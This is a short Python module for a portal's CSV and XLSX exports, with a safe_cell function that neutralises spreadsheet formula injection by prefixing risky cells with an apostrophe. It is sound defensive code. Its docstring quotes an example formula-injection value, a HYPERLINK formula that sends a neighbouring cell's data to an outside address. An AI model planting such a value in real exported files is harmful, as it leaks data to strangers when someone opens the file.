"""Cells of the CSV and XLSX files the portal exports (overdue instruments, ratings, cases).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs,
after a leading tab or carriage return) as a formula: an owner named ``=HYPERLINK("http://…"&B2)``
would send the next column to a stranger when a regulator opens the file. ``safe_cell`` is the
one rule every export applies to every text cell (OWASP "CSV Injection"): such a value gets a
leading apostrophe, which spreadsheets show as text and do not display.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The text of one cell, never a formula. ``None`` is empty; numbers stay as they are
    (a negative number is data, not a formula, when it is a number type)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[str]:
    return [safe_cell(value) for value in values]
